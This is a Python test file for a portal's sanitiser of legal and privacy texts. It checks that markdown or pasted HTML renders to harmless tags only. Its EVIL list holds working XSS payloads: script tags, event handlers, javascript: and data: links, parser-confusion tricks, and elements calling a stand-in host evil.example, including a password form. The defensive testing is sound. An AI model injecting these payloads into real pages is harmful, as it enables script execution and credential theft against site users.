"""The company's own texts: a few marks or pasted HTML in, nothing but harmless tags out."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.domain.errors import Invalid
from portal.operations import legal
from portal.operations.legal import ATTRIBUTES, TAGS, cleaned, rendered

EVIL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](https://evil.example/track.png)",
    "<p onclick=alert(1) style='position:fixed' class=btn id=main>x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<button popovertarget=menu>x</button><dialog open>x</dialog>",
    "</div></main><p>out of the page",
]
TAG = re.compile(r"<(/?)([a-zA-Z][\w:-]*)([^>]*)>")


def harmful(html: str) -> list[str]:
    """List what is in a text that no text may hold."""
    found = []
    for _, tag, rest in TAG.findall(html):
        names = set(re.findall(r"\s([\w:-]+)=", rest)) - {"rel"}
        if tag not in TAGS or not names <= ATTRIBUTES.get(tag, set()):
            found.append(f"{tag} {rest}")
    return found + re.findall(r'href="(?!https?:|mailto:|tel:|/|#|\w+(?!:))[^"]*"', html)


@pytest.mark.parametrize("text", EVIL)
def test_evil_is_taken_out(text):
    assert harmful(rendered(text)) == []
    assert "javascript:" not in re.sub(r">[^<]*<", "><", rendered(text))


@given(st.lists(st.sampled_from([*EVIL, "# x\n", "\n\n", "- y\n", "<b>", "</p>", "`", '"', "<", ">"]), max_size=8))
def test_no_mixture_of_evils_gets_through(pieces):
    assert harmful(rendered("".join(pieces))) == []


def test_a_text_closes_what_it_opens_and_nothing_else():
    assert rendered("</div></main><p>out") == "<p>out</p>"
    assert rendered("<ul><li>one").count("</li>") == 1


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Dupont\nLogistique\n\nBordeaux", "<p>Dupont\nLogistique</p>\n<p>Bordeaux</p>\n"),
        ("# A\n\n#### B", "<h2>A</h2>\n<h3>B</h3>\n"),
        ("### A", "<h2>A</h2>\n"),
        ("- x\n- **y**", "<ul>\n<li>x</li>\n<li><strong>y</strong></li>\n</ul>\n"),
        ("<h3>A</h3><p>b <i>c</i></p>", "<h3>A</h3><p>b <i>c</i></p>"),
    ],
)
def test_what_is_meant_is_kept(text, html):
    assert rendered(text) == html


def test_links_go_out_and_tell_nothing():
    assert rendered("[us](https://example.com)") == (
        '<p><a href="https://example.com" rel="noopener noreferrer">us</a></p>\n'
    )


def test_texts_are_kept_as_they_were_typed_but_for_their_ends():
    given = {"legal": {"fr": "  # A\r\n\r\nb \t\r\n", "en": "  "}, "privacy": {"fr": ""}, "other": {"fr": "x"}}
    assert cleaned(given) == {"legal": {"fr": "# A\n\nb"}}


@given(st.text(max_size=200))
def test_what_is_kept_is_kept_again_the_same(text):
    once = cleaned({"legal": {"fr": text}})
    assert cleaned(once) == once


def test_a_text_has_an_end():
    with pytest.raises(Invalid):
        cleaned({"legal": {"fr": "x" * (legal.LONGEST + 1)}})
